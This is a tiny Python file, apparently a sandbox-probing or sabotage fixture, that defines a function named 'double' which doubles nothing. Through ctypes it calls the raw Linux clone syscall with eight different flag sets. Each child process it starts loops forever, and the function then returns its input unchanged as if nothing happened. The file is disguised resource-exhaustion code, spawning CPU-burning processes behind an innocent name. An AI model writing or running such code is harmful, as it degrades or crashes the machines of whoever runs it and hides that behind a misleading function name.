"""Clones itself with every set of flags."""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def double(values):
    for flags in (0, 17, 0x11200, 0x100, 0x10000000, 0x7e020000, 0x4000, 0x3d0f00):
        if libc.syscall(56, flags, 0, 0, 0, 0) == 0:
            while True: pass
    return values
